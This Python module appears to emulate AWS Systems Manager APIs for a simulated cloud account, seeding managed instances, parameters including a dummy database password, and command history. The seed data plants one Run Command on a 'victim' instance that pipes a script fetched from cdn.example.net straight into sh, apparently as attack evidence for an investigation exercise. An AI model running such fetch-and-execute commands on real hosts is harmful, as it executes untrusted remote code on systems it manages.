# SPDX-License-Identifier: Apache-2.0
"""Systems Manager: managed instances, parameters, commands."""
import base64
import datetime
import hashlib

from .errors import AwsError
from .policy import like
from .registry import op


def seed(s):
    reg = s.acct.regions["us-east-1"]
    for n, i in enumerate(list(reg.all("instances").values())[:14]):
        reg.all("ssm_instances")[i["InstanceId"]] = {
            "InstanceId": i["InstanceId"], "PingStatus": "Online",
            "LastPingDateTime": s.ago(minutes=n), "AgentVersion":
                "3.3.987.0", "IsLatestVersion": n % 2 == 0,
            "PlatformType": "Linux", "PlatformName": "Amazon Linux",
            "PlatformVersion": "2023", "ResourceType": "EC2Instance",
            "IPAddress": i["PrivateIpAddress"], "ComputerName":
                i["PrivateDnsName"], "AssociationStatus": "Success",
            "SourceId": i["InstanceId"], "SourceType": "AWS::EC2::Instance"}
    values = [("/prod/db/password", "SecureString", "not-a-real-password-" +
               s.ids.hex(8)), ("/prod/db/host", "String",
                               "db.prod.internal"),
              ("/prod/web/origins", "StringList",
               "https://www.example.com,https://example.com")]
    values += [("/app/%02d/setting" % n, "String", "value %d & <more>" % n)
               for n in range(12)]
    for n, (name, kind, value) in enumerate(values):
        reg.all("params")[name] = {
            "Name": name, "Type": kind, "Value": value, "Version": 3
            if n == 0 else 1, "LastModifiedDate": s.ago(days=20 + n),
            "ARN": "arn:aws:ssm:us-east-1:123456789012:parameter" + name,
            "DataType": "text", "_user":
                "arn:aws:iam::123456789012:user/automation/ci-deployer",
            "_desc": "parameter %d" % n}
    cid = s.ids.uuid()
    iid = s.victim["InstanceId"]
    reg.all("commands")[cid] = {
        "CommandId": cid, "DocumentName": "AWS-RunShellScript",
        "DocumentVersion": "$DEFAULT", "Comment": "", "ExpiresAfter":
            s.ago(hours=17), "Parameters": {"commands": [
                "curl -fsSL https://cdn.example.net/m.sh | sh"]},
        "InstanceIds": [iid], "Targets": [], "RequestedDateTime":
            s.ago(hours=18, minutes=20), "Status": "Success",
        "StatusDetails": "Success", "OutputS3BucketName": "",
        "MaxConcurrency": "50", "MaxErrors": "0", "TargetCount": 1,
        "CompletedCount": 1, "ErrorCount": 0, "DeliveryTimedOutCount": 0,
        "ServiceRole": "", "TimeoutSeconds": 3600}


@op("ssm", "DescribeInstanceInformation")
def instances(ctx, p):
    out = list(ctx.state.all("ssm_instances").values())
    for f in p.get("Filters", []):
        if f["Key"] == "InstanceIds":
            out = [i for i in out if i["InstanceId"] in f["Values"]]
        elif f["Key"] == "PingStatus":
            out = [i for i in out if i["PingStatus"] in f["Values"]]
    return {"InstanceInformationList": out}


@op("ssm", "DescribeParameters")
def describe_parameters(ctx, p):
    out = []
    for x in ctx.state.all("params").values():
        m = {k: x[k] for k in ("Name", "ARN", "Type", "LastModifiedDate",
                               "Version", "DataType")}
        m.update(LastModifiedUser=x["_user"], Description=x["_desc"],
                 Tier="Standard", Policies=[])
        if x["Type"] == "SecureString":
            m["KeyId"] = "alias/aws/ssm"
        ok = True
        for f in p.get("ParameterFilters", []):
            if f["Key"] == "Name":
                vals = f.get("Values", [])
                opt = f.get("Option", "Equals")
                ok &= any(x["Name"] == v if opt == "Equals" else
                          x["Name"].startswith(v) if opt == "BeginsWith"
                          else v in x["Name"] for v in vals)
            elif f["Key"] == "Type":
                ok &= x["Type"] in f.get("Values", [])
        if ok:
            out.append(m)
    return {"Parameters": out}


def value(ctx, x, decrypt):
    out = {k: v for k, v in x.items() if not k.startswith("_")}
    if x["Type"] == "SecureString" and not decrypt:
        out["Value"] = base64.b64encode(hashlib.sha512(
            x["Value"].encode()).digest()).decode()
    return out


@op("ssm", "GetParameter")
def get_parameter(ctx, p):
    name = p["Name"].split(":parameter")[-1].split(":")[0]
    x = ctx.state.all("params").get(name)
    if x is None:
        raise AwsError("ParameterNotFound", "Parameter %s not found." % name,
                       400)
    return {"Parameter": value(ctx, x, p.get("WithDecryption"))}


@op("ssm", "GetParameters")
def get_parameters(ctx, p):
    have = ctx.state.all("params")
    return {"Parameters": [value(ctx, have[n], p.get("WithDecryption"))
                           for n in p["Names"] if n in have],
            "InvalidParameters": [n for n in p["Names"] if n not in have]}


@op("ssm", "GetParametersByPath")
def by_path(ctx, p):
    pre = p["Path"].rstrip("/") + "/"
    return {"Parameters": [
        value(ctx, x, p.get("WithDecryption"))
        for n, x in ctx.state.all("params").items()
        if n.startswith(pre) and (p.get("Recursive") or
                                  "/" not in n[len(pre):])]}


@op("ssm", "GetParameterHistory")
def history(ctx, p):
    x = ctx.state.all("params").get(p["Name"])
    if x is None:
        raise AwsError("ParameterNotFound", "Parameter %s not found." %
                       p["Name"], 400)
    out = []
    for v in range(1, x["Version"] + 1):
        h = value(ctx, x, p.get("WithDecryption"))
        h.pop("ARN")
        h.update(Version=v, LastModifiedUser=x["_user"], Labels=[],
                 Tier="Standard", Policies=[], LastModifiedDate=
                 x["LastModifiedDate"] - datetime.timedelta(
                     days=x["Version"] - v))
        out.append(h)
    return {"Parameters": out}


DOCS = ("AWS-RunShellScript", "AWS-UpdateSSMAgent", "AWS-GatherSoftware"
        "Inventory")


@op("ssm", "ListDocuments")
def documents(ctx, p):
    return {"DocumentIdentifiers": [
        {"Name": d, "Owner": "Amazon", "PlatformTypes": ["Linux"],
         "DocumentVersion": "1", "DocumentType": "Command",
         "SchemaVersion": "2.2", "DocumentFormat": "JSON", "Tags": []}
        for d in DOCS]}


@op("ssm", "GetDocument")
def document(ctx, p):
    if p["Name"] not in DOCS:
        raise AwsError("InvalidDocument", "Document with name %s does not "
                       "exist." % p["Name"], 400)
    return {"Name": p["Name"], "DocumentVersion": "1", "Status": "Active",
            "Content": '{"schemaVersion":"2.2","mainSteps":[]}',
            "DocumentType": "Command", "DocumentFormat": "JSON"}


@op("ssm", "ListCommands")
def commands(ctx, p):
    out = list(ctx.state.all("commands").values())
    if p.get("CommandId"):
        out = [c for c in out if c["CommandId"] == p["CommandId"]]
        if not out:
            raise AwsError("InvalidCommandId", "", 400)
    if p.get("InstanceId"):
        out = [c for c in out if p["InstanceId"] in c["InstanceIds"]]
    return {"Commands": out}


@op("ssm", "ListCommandInvocations")
def invocations(ctx, p):
    out = []
    for c in ctx.state.all("commands").values():
        if p.get("CommandId") not in (None, c["CommandId"]):
            continue
        for i in c["InstanceIds"]:
            out.append({"CommandId": c["CommandId"], "InstanceId": i,
                        "DocumentName": c["DocumentName"], "Status":
                            "Success", "StatusDetails": "Success",
                        "RequestedDateTime": c["RequestedDateTime"],
                        "CommandPlugins": []})
    return {"CommandInvocations": out}


@op("ssm", "ListAssociations")
def associations(ctx, p):
    return {"Associations": []}


@op("ssm", "DescribeSessions")
def sessions(ctx, p):
    return {"Sessions": []}


@op("ssm", "ListTagsForResource")
def resource_tags(ctx, p):
    return {"TagList": [{"Key": "team", "Value": "platform"}]}
